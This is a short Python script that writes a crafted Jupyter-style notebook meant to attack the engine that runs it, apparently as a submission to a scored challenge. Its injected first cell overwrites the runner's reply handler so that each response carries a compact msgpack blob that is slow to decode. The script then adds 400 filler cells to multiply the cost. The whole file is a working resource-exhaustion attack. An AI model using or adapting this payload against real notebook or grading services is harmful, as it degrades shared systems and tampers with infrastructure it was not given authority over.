# attacks = "the engine's own time, by answers that are quick to send and slow to read, one from each of many cells"
# points = { double = 0, total = 0 }
def submission(folder, notebook, name):
    import copy
    import json
    first = """
from notebook_runner import job, wire
import msgpack
slow = msgpack.packb([[]] * 990_000)
def answered(shell, calls, message):
    number = wire.decode(message[1:])["id"]
    head = msgpack.packb({"status": "ok", "outputs": None})[:-1] + slow
    return b"\\x82\\xa2id" + msgpack.packb(number) + b"\\xa5value" + head
job._answered = answered
"""
    sources = [first, *["1"] * 400]
    cells = [{"cell_type": "code", "id": f"c{n}", "metadata": {}, "source": source, "outputs": [], "execution_count": None} for n, source in enumerate(sources)]
    notebook = copy.deepcopy(dict(notebook))
    notebook["cells"] = [*cells, *notebook["cells"]]
    (folder / name).write_text(json.dumps(notebook))
